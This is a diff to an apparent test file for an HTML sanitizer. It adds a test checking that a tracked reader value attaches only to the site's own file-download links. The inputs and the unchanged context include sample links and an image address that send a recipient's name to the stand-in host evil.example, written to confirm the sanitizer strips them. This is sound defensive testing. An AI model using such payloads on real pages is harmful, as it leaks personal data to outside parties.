@@ -60,6 +60,20 @@ test('web links are tracked once, our own addresses and mail links are not', () 
   expect(html).not.toContain('https://a.example');
 });
 
+test('a reader’s link stands behind the address of a file of ours and nowhere else', () => {
+  const mark = valueMark(sentinel, 'readerQuery');
+  const link = (address: string) => sanitizePage(`<a href="${address}${mark}">x</a>`, context);
+  expect(link('/api/file/o/12345678/download')).toContain(mark);
+  for (const other of [
+    'https://evil.example/',
+    '//evil.example/api/file/o/1/download',
+    '/api/activity',
+    '/l/x?u=',
+    '',
+  ])
+    expect(link(other), other).not.toContain(mark);
+});
+
 test('no address and no attribute can carry a name away', () => {
   const name = valueMark(sentinel, 'recipientName');
   const html = `<a href="https://evil.example/?n=${name}">x</a><img src="https://evil.example/${name}.png" alt="${name}">`;
